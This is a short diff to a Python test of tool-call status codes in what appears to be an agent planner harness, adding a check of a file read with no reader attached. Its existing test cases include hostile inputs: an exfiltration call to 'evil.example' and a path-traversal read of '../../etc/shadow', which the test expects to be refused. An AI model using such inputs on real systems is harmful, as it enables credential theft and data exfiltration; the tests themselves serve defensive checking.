@@ -701,6 +701,11 @@ def planner_call_statuses():
         done = call("file.list", "{}")
         says(done, DONE, "file.list")
         equal(sorted(json.loads(done.stdout)), ["request", "result"], "keys")
+        done = call("file.read", '{"path":"none"}')
+        says(done, UNAVAILABLE, "no reader")
+        check(b"trizone-reader" in done.stdout, "no word of it: %r",
+              done.stdout)
+        host.attach_reader()
         for name, arguments, code in (
                 ("send_data_to_external_server", '{"to":"evil.example"}',
                  1301), ("file.read", '{"path":"../../etc/shadow"}', 1310),
